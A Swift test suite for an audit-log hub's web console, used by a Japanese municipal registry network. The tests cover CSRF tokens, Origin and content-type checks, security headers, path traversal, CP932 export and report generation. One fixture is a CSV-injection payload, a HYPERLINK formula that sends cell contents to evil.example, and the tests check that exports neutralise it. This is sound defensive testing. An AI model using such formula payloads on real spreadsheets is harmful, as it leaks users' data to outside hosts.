import Foundation
import KirokuClient
import KirokuControl
import KirokuHub
import KirokuPKI
import KirokuProtocol
import KirokuTestSupport
import NIOHTTP1
import Testing

/// The web console (PROTOCOL.md §12) as people meet it: in Debian's Chromium, each role presenting the
/// PKCS#12 that `kirokuctl pki export-p12` wrote, and as a hostile client would try it with curl.
@Suite("Web console", .serialized)
struct ConsoleTests {
    /// A hub with a people register, a terminal's events (lookups, a burst of failed logins, out-of-hours work),
    /// the findings they raise, and a `.p12` for each person.
    struct Scene {
        let temp: TempDir
        let pki: TestPKI
        let hub: HubProcess
        let passphrase = "kiroku-test-passphrase"
    }

    static func scene(_ name: String) async throws -> Scene {
        let temp = try TempDir(name)
        let pki = try TestPKI(in: temp)
        _ = try pki.agent("counter-01")
        for person in ["kanri01", "kaigi01", "sousa01", "itaku01"] { _ = try pki.person(person) }
        let hub = try await HubProcess(pki: pki, temp: temp)
        let scene = Scene(temp: temp, pki: pki, hub: hub)
        let admin = HubQueries(
            connection: try HubConnection(
                baseURL: hub.url,
                credentials: ClientCredentials(
                    caPath: pki.caPath, certificatePath: pki.certPath(.person, "kanri01"),
                    keyPath: pki.keyPath(.person, "kanri01"))))
        let agent = try HubConnection(
            baseURL: hub.url,
            credentials: ClientCredentials(
                caPath: pki.caPath, certificatePath: pki.certPath(.agent, "counter-01"),
                keyPath: pki.keyPath(.agent, "counter-01")))
        defer {
            Task {
                await admin.connection.shutdown(); await agent.shutdown()
            }
        }
        let people =
            "person_id,name,role,left\nkanri01,髙﨑 一郎,管理者,\nkaigi01,佐藤 花子,会議,\nsousa01,山田 太郎,操作者,\nitaku01,日本電算 佐々木,受託者,\n"
        _ = try await admin.importRegister("people", csv: Array(people.utf8))
        _ = try await admin.importRegister(
            "contracts",
            csv: Array(SampleRegisters.contracts.replacingOccurrences(of: "V-03;V-04", with: "itaku01").utf8))
        _ = try await admin.importRegister("maintenance", csv: Array(SampleRegisters.instructions.utf8))

        // Saturday night: two lookups, then six failed logins within ten minutes (第20, 第22); a colleague's
        // lookup the 操作者 must not see; and one event today for the dashboard.
        var events: [Event] = []
        var previous = Event.genesis
        func add(
            _ time: String, _ action: String, actor: String, subject: String, kind: String = "operation",
            site: String = "本庁舎"
        ) {
            let event = Event(
                agent: "counter-01", seq: Int64(events.count + 1), time: time, kind: kind, action: action, actor: actor,
                subject: subject, site: site, attrs: [:], salt: Event.randomSalt(), prev: previous
            ).sealed()
            events.append(event)
            previous = event.hash
        }
        add("2026-11-28T23:00:00.000+09:00", "lookup", actor: "sousa01", subject: "住民票コード 90")
        add("2026-11-28T23:01:00.000+09:00", "lookup", actor: "sousa01", subject: "住民票コード 91")
        for minute in 2..<8 {
            add("2026-11-28T23:0\(minute):00.000+09:00", "auth_failure", actor: "sousa01", subject: "")
        }
        add("2026-11-27T10:00:00.000+09:00", "lookup", actor: "P1000", subject: "住民票コード 12")
        add(
            "2026-11-27T10:01:00.000+09:00", "lookup", actor: "P1000",
            subject: #"=HYPERLINK("http://evil.example/?"&A1,"x")"#)
        // A fire and a quake shutdown (第29, 第30: not 第26), and a room entered and left (the room is the subject).
        add("2026-11-20T14:00:00.000+09:00", "fire", actor: "P2000", subject: "電算室 分電盤", kind: "incident")
        add("2026-11-21T03:00:00.000+09:00", "quake_shutdown", actor: "P2000", subject: "サーバー1", kind: "incident")
        add(
            "2026-11-24T09:00:00.000+09:00", "enter", actor: "P2000", subject: "電算室", kind: "access", site: "本庁舎 3階 通用口"
        )
        add("2026-11-24T09:30:00.000+09:00", "exit", actor: "P2000", subject: "電算室", kind: "access", site: "本庁舎 3階 通用口")
        // A name CP932 cannot hold (𠮷, U+20BB7): a Shift_JIS export must refuse it, not write '?'.
        add("2026-11-25T10:00:00.000+09:00", "lookup", actor: "P3000", subject: "𠮷田 一郎")
        // A login in the report's November, whatever day the test runs; and one today, for the dashboard.
        add("2026-11-25T10:05:00.000+09:00", "login", actor: "sousa01", subject: "")
        add(Timestamp(date: Date()).rfc3339, "login", actor: "sousa01", subject: "")
        _ = try await agent.request(
            .POST, "/v1/agent/batches",
            body: Batch.encodeBody(
                agent: "counter-01", sentAt: Timestamp(date: Date()).rfc3339, headSeq: Int64(events.count),
                canonicalEvents: events.map { $0.canonicalBytes(includingHash: true) }))
        let judged = try await eventually {
            let found = try await admin.findings(status: nil, rule: nil).map(\.rule)
            return found.contains("auth_failure_burst") && found.contains("out_of_hours")
        }
        #expect(judged, "the rules raised the findings the scene needs")
        let phraseFile = temp.file("passphrase")
        try scene.passphrase.write(toFile: phraseFile, atomically: true, encoding: .utf8)
        for person in ["kanri01", "kaigi01", "sousa01", "itaku01"] {
            let exported = try await runProgram(
                Binaries.path("kirokuctl"),
                [
                    "pki", "export-p12", "--dir", pki.dir.path, "--id", person, "--out", temp.file("\(person).p12"),
                    "--passphrase-file", phraseFile,
                ])
            #expect(exported.status == 0, "\(exported.stderr)")
        }
        return scene
    }

    @Test(
        "In Chromium with each role's .p12: every page in Japanese, a finding acknowledged through its form, a hold placed and lifted, each role refused what it may not do, another site's forms refused"
    )
    func inChromium() async throws {
        let scene = try await Self.scene("console-browser")
        defer { scene.hub.stop() }
        let screenshots =
            ProcessInfo.processInfo.environment["KIROKU_SCREENSHOTS"] ?? FileManager.default.currentDirectoryPath
            + "/.build/console-screenshots"
        let script = RepositoryFiles.root.appending(path: "Tests/Browser/console_test.py").path
        let run = try await runProgram(
            "/usr/bin/env", ["python3", script, scene.hub.url, scene.temp.url.path, scene.passphrase, screenshots])
        #expect(run.status == 0, "\(run.stdout)\n\(run.stderr)")
        #expect(run.stdout.contains("console: all checks passed"), "\(run.stdout)")
    }

    @Test(
        "With curl: form posts need the token bound to the certificate; API writes need a type no form can send; a person's .p12 opens with its passphrase only"
    )
    func hostileClient() async throws {
        let scene = try await Self.scene("console-curl")
        defer { scene.hub.stop() }
        let pki = scene.pki
        func curl(_ person: String, _ arguments: [String]) async throws -> Outcome {
            try await runProgram(
                "/usr/bin/curl",
                [
                    "-sS", "--max-time", "20", "--cacert", pki.caPath, "--cert", pki.certPath(.person, person), "--key",
                    pki.keyPath(.person, person), "-w", "\n%{http_code}",
                ] + arguments)
        }
        // A form without a token, or with a made-up one: refused, the finding unchanged.
        for token in ["", "token=AAAA&"] {
            let posted = try await curl(
                "kanri01", ["--data", "\(token)reason=x", "\(scene.hub.url)/findings/1/acknowledge"])
            #expect(
                posted.stdout.hasSuffix("\n403") && posted.stdout.contains("cross_site_request"), "\(posted.stdout)")
        }
        // The token shown to the 管理者 works for the 管理者 (and only with Origin of the hub, if one is sent).
        let page = try await curl("kanri01", ["\(scene.hub.url)/findings/1"])
        let token = try #require(page.stdout.firstMatch(of: /name="token" value="([^"]+)"/)).1
        let otherOrigin = try await curl(
            "kanri01",
            [
                "-H", "Origin: https://evil.example", "--data", "token=\(token)&reason=x",
                "\(scene.hub.url)/findings/1/acknowledge",
            ])
        #expect(otherOrigin.stdout.hasSuffix("\n403"), "\(otherOrigin.stdout)")
        let mine = try await curl(
            "kanri01",
            ["--data", "token=\(token)&reason=%E7%A2%BA%E8%AA%8D", "\(scene.hub.url)/findings/1/acknowledge"])
        #expect(mine.stdout.hasSuffix("\n303"), "\(mine.stdout)")
        let json = try await curl("kanri01", ["\(scene.hub.url)/v1/findings"])
        #expect(json.stdout.contains("\"reason\":\"確認\""), "\(json.stdout)")

        // API writes: a form's type or none is refused before anything is judged; JSON is taken.
        for type in ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x"] {
            let posted = try await curl(
                "kanri01",
                [
                    "-H", "Content-Type: \(type)", "--data", #"{"reason":"r","subject":"s"}"#,
                    "\(scene.hub.url)/v1/holds",
                ])
            #expect(
                posted.stdout.hasSuffix("\n415") && posted.stdout.contains("unsupported_media_type"),
                "\(type): \(posted.stdout)")
        }
        let holds = try await curl("kanri01", ["\(scene.hub.url)/v1/holds"])
        #expect(holds.stdout.hasPrefix("[]"), "\(holds.stdout)")
        let placed = try await curl(
            "kanri01",
            [
                "-H", "Content-Type: application/json", "--data", #"{"reason":"r","subject":"s"}"#,
                "\(scene.hub.url)/v1/holds",
            ])
        #expect(placed.stdout.hasSuffix("\n200"), "\(placed.stdout)")

        // Pages: no script, no framing, nothing cached; a refusal is a Japanese page with the same status.
        let headers = try await curl("sousa01", ["-D", "-", "-o", "/dev/null", "\(scene.hub.url)/findings"])
        #expect(headers.stdout.contains("HTTP/1.1 403"), "\(headers.stdout)")
        #expect(
            headers.stdout.lowercased().contains("content-security-policy: default-src 'none'"), "\(headers.stdout)")
        #expect(headers.stdout.lowercased().contains("x-frame-options: deny"), "\(headers.stdout)")
        #expect(headers.stdout.lowercased().contains("cache-control: no-store"), "\(headers.stdout)")

        // Contractors' submissions, as a stranger and across sites: someone not in the people register is refused
        // the page and the API before any body is read; a review form without its token, or posted from another
        // site with a good one, is refused; the API takes a submission only as JSON, never as a form.
        try pki.person("stranger01")
        let strangerPage = try await curl("stranger01", ["\(scene.hub.url)/submissions"])
        #expect(
            strangerPage.stdout.hasSuffix("\n403") && strangerPage.stdout.contains("not_permitted"),
            "\(strangerPage.stdout.suffix(300))")
        let strangerPost = try await curl(
            "stranger01",
            [
                "-H", "Content-Type: application/json", "--data", #"{"contract":"C-1"}"#,
                "\(scene.hub.url)/v1/submissions",
            ])
        #expect(
            strangerPost.stdout.hasSuffix("\n403") && strangerPost.stdout.contains("not_permitted"),
            "\(strangerPost.stdout)")
        let noToken = try await curl(
            "kanri01", ["--data", "decision=accept&reason=x", "\(scene.hub.url)/submissions/1/review"])
        #expect(
            noToken.stdout.hasSuffix("\n403") && noToken.stdout.contains("cross_site_request"),
            "\(noToken.stdout.suffix(300))")
        let listing = try await curl("kanri01", ["\(scene.hub.url)/findings/1"])
        let reviewToken = try #require(listing.stdout.firstMatch(of: /name="token" value="([^"]+)"/)).1
        let elsewhere = try await curl(
            "kanri01",
            [
                "-H", "Origin: https://evil.example", "--data", "token=\(reviewToken)&decision=accept&reason=x",
                "\(scene.hub.url)/submissions/1/review",
            ])
        #expect(
            elsewhere.stdout.hasSuffix("\n403") && elsewhere.stdout.contains("cross_site_request"),
            "\(elsewhere.stdout.suffix(300))")
        let asForm = try await curl(
            "itaku01", ["-F", "contract=C-1", "-F", "file=@\(pki.caPath)", "\(scene.hub.url)/v1/submissions"])
        #expect(
            asForm.stdout.hasSuffix("\n415") && asForm.stdout.contains("unsupported_media_type"), "\(asForm.stdout)")
        #expect(
            try await curl("kanri01", ["\(scene.hub.url)/v1/submissions"]).stdout.hasPrefix("[]"),
            "nothing was submitted")

        // CSV: UTF-8 with BOM by default; CP932 on request, readable as Shift_JIS with the same rows.
        let csvFile = scene.temp.file("events-cp932.csv")
        let csv = try await runProgram(
            "/usr/bin/curl",
            [
                "-sS", "-o", csvFile, "-w", "%{http_code}", "--cacert", pki.caPath, "--cert",
                pki.certPath(.person, "kanri01"), "--key",
                pki.keyPath(.person, "kanri01"), "\(scene.hub.url)/events.csv?encoding=cp932&actor=sousa01",
            ])
        #expect(csv.stdout == "200")
        let sjis = try await runProgram("/usr/bin/iconv", ["-f", "CP932", "-t", "UTF-8", csvFile])
        #expect(
            sjis.stdout.hasPrefix("日時(JST),端末,連番") && sjis.stdout.contains("山田 太郎")
                && sjis.stdout.components(separatedBy: "\r\n").count == 12, "\(sjis.stdout)")

        // What a hostile reviewer found, kept found: an empty Content-Type crashed the hub; `//v1/` skipped the
        // type check; a formula in a subject reached Excel; an oversized body was a 500; a broken filter
        // was dropped (widening the search); console refusals were JSON without the page headers.
        for header in ["Content-Type;", "Content-Type: ;"] {
            let empty = try await curl("sousa01", ["-X", "POST", "-H", header, "\(scene.hub.url)/v1/log/checkpoint"])
            #expect(empty.stdout.hasSuffix("\n415"), "\(header): \(empty.stdout)")
        }
        let alive = try await curl("sousa01", ["\(scene.hub.url)/v1/me"])
        #expect(alive.stdout.hasSuffix("\n200"), "the hub survived: \(alive.stdout)")
        let doubled = try await curl(
            "kanri01",
            [
                "-H", "Content-Type: text/plain", "--data", #"{"reason":"r","subject":"s"}"#,
                "\(scene.hub.url)//v1/holds",
            ])
        #expect(doubled.stdout.hasSuffix("\n415"), "\(doubled.stdout)")
        let formula = try await curl("kanri01", ["\(scene.hub.url)/events.csv?actor=P1000"])
        #expect(
            formula.stdout.contains(#",'=HYPERLINK(""http://evil.example/?""&A1,""x"")"#)
                || formula.stdout.contains(#""'=HYPERLINK(""http://evil.example/?""&A1,""x"")""#), "\(formula.stdout)")
        #expect(!formula.stdout.contains(#","=HYPERLINK"#) && !formula.stdout.contains(#",=HYPERLINK"#))
        let big = try await curl(
            "kanri01",
            [
                "-H", "Content-Type: application/json", "--data",
                "{\"reason\":\"\(String(repeating: "x", count: 20_000))\"}", "\(scene.hub.url)/v1/holds",
            ])
        #expect(big.stdout.hasSuffix("\n413"), "\(big.stdout.suffix(200))")
        let broken = try await curl("kanri01", ["\(scene.hub.url)/events?subject=%C3%28"])
        #expect(
            broken.stdout.hasSuffix("\n400") && broken.stdout.contains("入力に誤りがあります"), "\(broken.stdout.suffix(300))")
        let missing = try await curl("kanri01", ["-D", "-", "\(scene.hub.url)/favicon.ico"])
        #expect(
            missing.stdout.contains("HTTP/1.1 404")
                && missing.stdout.lowercased().contains("content-security-policy: default-src 'none'")
                && missing.stdout.contains("見つかりません"), "\(missing.stdout)")
        let evidence = try await curl(
            "kanri01", ["-D", "-", "-o", "/dev/null", "\(scene.hub.url)/v1/evidence?actor=sousa01"])
        #expect(
            evidence.stdout.lowercased().contains("cache-control: no-store")
                && evidence.stdout.lowercased().contains("x-content-type-options: nosniff"), "\(evidence.stdout)")
        let empty = try await curl(
            "kanri01",
            [
                "-H", "Content-Type: application/json", "--data",
                #"{"reason":"r","from":"2026-11-29T00:00:00.000+09:00","to":"2026-11-29T00:00:00.000+09:00"}"#,
                "\(scene.hub.url)/v1/holds",
            ])
        #expect(empty.stdout.hasSuffix("\n400") && empty.stdout.contains("would hold nothing"), "\(empty.stdout)")

        // Someone who may not replace a register is refused before the upload is read; a boundary over 70
        // characters (RFC 2046) is not parsed; an id that climbs out of the PKI folder is refused.
        let upload = try await curl(
            "sousa01",
            [
                "-F", "token=x", "-F", "csv=@\(scene.temp.file("passphrase"))",
                "\(scene.hub.url)/registers/people/preview",
            ])
        #expect(
            upload.stdout.hasSuffix("\n403") && upload.stdout.contains("not_permitted"), "\(upload.stdout.suffix(300))")
        let longBoundary = try await curl(
            "kanri01",
            [
                "-H", "Content-Type: multipart/form-data; boundary=\(String(repeating: "a", count: 200))", "--data",
                "x", "\(scene.hub.url)/registers/people/preview",
            ])
        #expect(longBoundary.stdout.hasSuffix("\n400"), "\(longBoundary.stdout.suffix(300))")
        let climb = try await runProgram(
            Binaries.path("kirokuctl"),
            ["pki", "export-p12", "--dir", pki.dir.path, "--id", "../hub/hub", "--out", scene.temp.file("x.p12")])
        #expect(climb.status != 0 && climb.stderr.contains("a person id is"), "\(climb.stderr)")

        // CP932 that cannot hold a character is refused with its place, in the console and in kirokuctl.
        let refusedCSV = try await curl("kanri01", ["\(scene.hub.url)/events.csv?encoding=cp932&actor=P3000"])
        #expect(
            refusedCSV.stdout.hasSuffix("\n400") && refusedCSV.stdout.contains("U+20BB7")
                && refusedCSV.stdout.contains("row 2, column 8"), "\(refusedCSV.stdout.suffix(400))")
        let person = ["--hub", scene.hub.url, "--pki", pki.dir.path, "--as", "kanri01"]
        let ctlRefused = try await runProgram(
            Binaries.path("kirokuctl"),
            ["query", "--actor", "P3000", "--format", "csv", "--encoding", "cp932"] + person)
        #expect(
            ctlRefused.status != 0 && ctlRefused.stderr.contains("U+20BB7")
                && ctlRefused.stderr.contains("row 2, column 8"), "\(ctlRefused.stderr)")
        let ctlFile = scene.temp.file("ctl-cp932.csv")
        let ctl = try await runProgram(
            "/bin/sh",
            [
                "-c", "\"$0\" query --actor sousa01 --all --format csv --encoding cp932 \"$@\" > '\(ctlFile)'",
                Binaries.path("kirokuctl"),
            ] + person)
        #expect(ctl.status == 0, "\(ctl.stderr)")
        let ctlText = try await runProgram("/usr/bin/iconv", ["-f", "CP932", "-t", "UTF-8", ctlFile])
        #expect(ctlText.status == 0 && ctlText.stdout.contains("住民票コード 90"), "\(ctlText.stdout.prefix(300))")

        // The .p12 opens with its passphrase (openssl as the browser's importer) and holds the person's certificate.
        let opened = try await runProgram(
            "/usr/bin/openssl",
            [
                "pkcs12", "-in", scene.temp.file("kanri01.p12"), "-passin", "pass:\(scene.passphrase)", "-nokeys",
                "-clcerts",
            ])
        #expect(opened.status == 0 && opened.stdout.contains("BEGIN CERTIFICATE"), "\(opened.stderr)")
        let wrong = try await runProgram(
            "/usr/bin/openssl", ["pkcs12", "-in", scene.temp.file("kanri01.p12"), "-passin", "pass:wrong", "-nokeys"])
        #expect(wrong.status != 0)
        let mode =
            try FileManager.default.attributesOfItem(atPath: scene.temp.file("kanri01.p12"))[.posixPermissions] as? Int
        #expect(mode == 0o600)
    }

    @Test(
        "A register preview is what gets committed: a register changed after the preview is refused; CSV in UTF-8 or CP932, anything else refused"
    )
    func previewThenImport() async throws {
        let temp = try TempDir("console-preview")
        let store = try HubStore.open(path: temp.file("record.sqlite"))
        let first = "card_id,holder,state,since\nC1,kanri01,active,2026-04-01\n"
        _ = try await store.importRegister(.cards, csv: first, by: "kanri01")
        let next =
            "card_id,holder,state,since\nC1,kanri01,lost,2026-11-01\nC2,sousa01,active,2026-11-01\nC3,,active,2026-11-01\nC4,x,broken,2026-11-01\n"
        let preview = try await store.previewRegister(.cards, csv: next)
        #expect(preview.added.map { $0["card_id"] } == ["C2"] && preview.changed.map { $0.after["state"] } == ["lost"])
        #expect(preview.refused.map(\.line) == [4, 5], "\(preview.refused)")
        // Someone else imports in between: the previewed import is refused, the register keeps theirs.
        _ = try await store.importRegister(
            .cards, csv: "card_id,holder,state,since\nC9,kaigi01,active,2026-11-02\n", by: "kanri02")
        let fixed = "card_id,holder,state,since\nC1,kanri01,lost,2026-11-01\nC2,sousa01,active,2026-11-01\n"
        await #expect(throws: KirokuError.self) {
            _ = try await store.importRegister(.cards, csv: fixed, by: "kanri01", expectedHeld: preview.heldDigest)
        }
        #expect(try await store.register(.cards).map { $0["card_id"] } == ["C9"])
        let again = try await store.previewRegister(.cards, csv: fixed)
        _ = try await store.importRegister(.cards, csv: fixed, by: "kanri01", expectedHeld: again.heldDigest)
        #expect(try await store.register(.cards).compactMap { $0["card_id"] }.sorted() == ["C1", "C2"])

        // As Excel re-saves an exported register: dates as 2026/11/1, zero-led ids as "=""0001""" — read back.
        let resaved =
            "card_id,holder,state,since\r\n\"=\"\"0001\"\"\",kanri01,active,2026/11/1\r\n'=x,sousa01,lost,令和8年11月2日\r\n"
        _ = try await store.importRegister(.cards, csv: resaved, by: "kanri01")
        let cards = try await store.register(.cards)
        #expect(cards.first { $0["card_id"] == "0001" }?["since"] == "2026-11-01", "\(cards)")
        #expect(cards.first { $0["card_id"] == "=x" }?["since"] == "2026-11-02", "\(cards)")
        // What is exported imports unchanged.
        let exported = try await store.exportRegister(.cards)
        #expect(try await store.previewRegister(.cards, csv: exported).changed.isEmpty)

        // Encodings: UTF-8 with or without BOM, CP932 as Excel writes it; bytes that are neither are refused.
        let text = "person_id,name,role,left\r\nkanri01,髙﨑 一郎,管理者,\r\n"
        #expect(try HubStore.decodeRegisterCSV(Array(text.utf8)) == text)
        #expect(try HubStore.decodeRegisterCSV([0xEF, 0xBB, 0xBF] + Array(text.utf8)).hasSuffix(text))
        let cp932 = try #require(text.data(using: .shiftJIS))
        #expect(try HubStore.decodeRegisterCSV(Array(cp932)) == text)
        #expect(throws: KirokuError.self) { try HubStore.decodeRegisterCSV([0x82, 0xA0, 0xFF, 0xFE, 0x80]) }
    }

    @Test(
        "The 会議's report: every article in order, figures equal to the record, the cosigned checkpoint printed verbatim; as HTML and as an A4 PDF (pdftotext, pdfinfo)"
    )
    func report() async throws {
        let scene = try await Self.scene("console-report")
        defer { scene.hub.stop() }
        let pki = scene.pki
        let ctl = Binaries.path("kirokuctl")
        let person = ["--hub", scene.hub.url, "--pki", pki.dir.path, "--as", "kaigi01"]
        // The 会議's witness cosigns the log first: the report prints that cosignature.
        let hubKey =
            try await runProgram(ctl, ["log", "key"] + person).stdout.split(separator: " ").first.map(String.init) ?? ""
        let witnessDir = scene.temp.file("witness")
        let witnessKey =
            try await runProgram(ctl, ["witness", "init", "--dir", witnessDir, "--name", "kaigi.test/witness"]).stdout
            .split(separator: "\n").last.map(String.init) ?? ""
        _ = try await runProgram(ctl, ["log", "checkpoint", "--publish"] + person)
        let cosigned = try await runProgram(ctl, ["witness", "run", "--dir", witnessDir, "--hub-key", hubKey] + person)
        #expect(cosigned.status == 0, "\(cosigned.stdout)\(cosigned.stderr)")
        let note = try await runProgram(ctl, ["log", "checkpoint"] + person).stdout

        let html = scene.temp.file("report.html")
        let bundle = scene.temp.file("report-evidence.json")
        let made = try await runProgram(
            ctl, ["report", "--month", "2026-11", "--out", html, "--evidence", bundle] + person)
        #expect(made.status == 0, "\(made.stderr)")
        // The evidence beside the report: its events, proven in the checkpoint it prints, verified offline.
        let verified = try await runProgram(ctl, ["verify", bundle, "--hub-key", hubKey, "--witness", witnessKey])
        #expect(
            verified.status == 0 && verified.stdout.contains("VERIFIED") && !verified.stdout.contains("NOT VERIFIED"),
            "\(verified.stdout)\(verified.stderr)")
        let text = try String(contentsOfFile: html, encoding: .utf8)
        // Every article, in order.
        var position = text.startIndex
        for number in 1...31 {
            let range = try #require(
                text.range(of: "<h3>第\(number) ", range: position..<text.endIndex), "第\(number) missing or out of order"
            )
            position = range.upperBound
        }
        #expect(text.contains("住民基本台帳ネットワークシステム セキュリティ会議 資料") && text.contains("令和8年11月1日 から 令和8年11月30日 まで"))
        // Figures equal to the record, as the API counts them.
        let kaigi = HubQueries(
            connection: try HubConnection(
                baseURL: scene.hub.url,
                credentials: ClientCredentials(
                    caPath: pki.caPath, certificatePath: pki.certPath(.person, "kaigi01"),
                    keyPath: pki.keyPath(.person, "kaigi01"))))
        let page = try? await kaigi.events([
            "from": "2026-11-01T00:00:00.000+09:00", "to": "2026-12-01T00:00:00.000+09:00", "limit": "10000",
        ])
        await kaigi.connection.shutdown()
        let events = try #require(page).events
        #expect(text.contains("<td class=\"num\">\(events.count) 件</td>"), "the period's event count \(events.count)")
        #expect(
            made.stdout.contains("\(bundle) に書きました：\(events.count) 件"),
            "the bundle holds the report's events: \(made.stdout)")
        let logins = events.filter { $0.kind == "operation" && ($0.action == "login" || $0.action == "logout") }.count
        #expect(logins >= 1 && text.contains("ログイン・ログアウト \(logins) 件"), "第11: logins \(logins)")
        #expect(
            text.contains("山田 太郎 (sousa01)</td><td class=\"num\">2</td><td class=\"num\">2</td>"),
            "sousa01: two lookups, both out of hours")
        #expect(
            text.contains("auth_failure_burst") && text.contains("対応の記録なし"),
            "the critical finding and that nobody handled it")
        #expect(text.contains("対応の記録がない重大な所見 (1 件)"), "unhandled critical findings up front")
        // Findings read in Japanese, written from the rule's fields (not translated English).
        #expect(text.contains("sousa01 の認証失敗が 2026-11-28 23:00:00 からの 10 分間に 6 回"), "the finding in Japanese")
        #expect(!text.contains("authentication failures by"), "no English finding sentence on the paper")
        // Each article counts the actions that serve it: the fire is 第29's, the quake 第30's, neither 第26's.
        func article(_ id: String) -> String {
            guard let start = text.range(of: "<h3>\(id) ") else { return "" }
            let end = text.range(of: "</section>", range: start.upperBound..<text.endIndex)?.lowerBound ?? text.endIndex
            return String(text[start.lowerBound..<end])
        }
        #expect(article("第29").contains("火災 1 件") && article("第30").contains("地震・落雷による停止 1 件"), "\(article("第29"))")
        #expect(article("第26").contains("記録: 0 件"), "\(article("第26"))")
        #expect(article("第22").contains("認証失敗 6 件") && article("第22").contains("不正アクセス 0 件"), "\(article("第22"))")
        // 入退室 by room (the subject), not by the door's building.
        #expect(
            text.contains("<tr><td>電算室</td><td>P2000</td><td class=\"num\">1</td><td class=\"num\">1</td>"), "rooms")
        // The terminals are the agents; the hub's own chain is not one.
        #expect(!text.contains("<tr class=\"\"><td>hub</td>") && !text.contains("<td>hub</td>"))
        // The checkpoint, as the hub serves it, verbatim on the paper.
        let escaped = note.replacingOccurrences(of: "&", with: "&amp;").replacingOccurrences(of: "<", with: "&lt;")
            .replacingOccurrences(of: ">", with: "&gt;")
        #expect(text.contains(escaped), "the cosigned checkpoint note printed in full")
        #expect(text.contains("会議の立会人が連署したチェックポイントです"))
        #expect(text.contains("確認印") && text.contains("議長"))
        // Outsourcing (第23–第26): the contracts of the period from the register, C-2 flagged for its gaps.
        #expect(
            text.contains("<tr class=\"flag\"><td>C-2</td><td>東京保守<br>電算室の空調</td>") && text.contains("7 / 8 (欠: 第24⑸)")
                && text.contains("2026-10-15 (開始後)"), "the contracts")
        #expect(
            text.contains("<tr class=\"\"><td>C-1</td>") && text.contains("期間中の提出はありません"),
            "C-1 complete; no submissions yet")

        // PDF: A4, Japanese text (和暦, a rare kanji name), the checkpoint's root.
        let pdf = scene.temp.file("report.pdf")
        let printed = try await runProgram(
            ctl, ["report", "--fiscal-year", "2026", "--half", "2", "--format", "pdf", "--out", pdf] + person)
        #expect(printed.status == 0, "\(printed.stderr)")
        let info = try await runProgram("/usr/bin/pdfinfo", [pdf])
        #expect(info.stdout.contains("A4"), "\(info.stdout)")
        let words = try await runProgram("/usr/bin/pdftotext", ["-layout", pdf, "-"]).stdout
        #expect(words.contains("令和8年度第2回") && words.contains("令和8年10月1日 から 令和9年3月31日 まで"), "\(words.prefix(600))")
        #expect(
            words.contains("髙﨑 一郎") && words.contains("佐藤 花子"),
            "names from the people register, a rare kanji among them")
        let root = try #require(text.firstMatch(of: /<td class="mono">([0-9a-f]{64})<\/td>/)).1
        #expect(
            words.replacingOccurrences(of: "\n", with: "").replacingOccurrences(of: " ", with: "").contains(root),
            "the root in the PDF")
        let fonts = try await runProgram("/usr/bin/pdffonts", [pdf]).stdout
        #expect(fonts.contains("IPAex") && fonts.contains("CID"), "the Japanese font embedded as CID: \(fonts)")
        // Without Chromium, --format pdf says how to get it and writes nothing.
        let without = try await runProgram(
            ctl,
            [
                "report", "--month", "2026-11", "--format", "pdf", "--chromium", "/nonexistent/chromium", "--out",
                scene.temp.file("x.pdf"),
            ] + person)
        #expect(
            without.status != 0 && without.stderr.contains("apt-get install chromium fonts-ipaexfont"),
            "\(without.stderr)")
        #expect(!FileManager.default.fileExists(atPath: scene.temp.file("x.pdf")))
        // A bad period is refused with the forms it takes.
        let bad = try await runProgram(
            ctl, ["report", "--month", "2026-13", "--out", scene.temp.file("y.html")] + person)
        #expect(bad.status != 0 && bad.stderr.contains("month is YYYY-MM"), "\(bad.stderr)")
        // Kept beside the screenshots, to be looked at.
        let keep =
            ProcessInfo.processInfo.environment["KIROKU_SCREENSHOTS"] ?? FileManager.default.currentDirectoryPath
            + "/.build/console-screenshots"
        try? FileManager.default.createDirectory(atPath: keep, withIntermediateDirectories: true)
        try? FileManager.default.removeItem(atPath: keep + "/report-sample.pdf")
        try? FileManager.default.copyItem(atPath: pdf, toPath: keep + "/report-sample.pdf")
    }
}
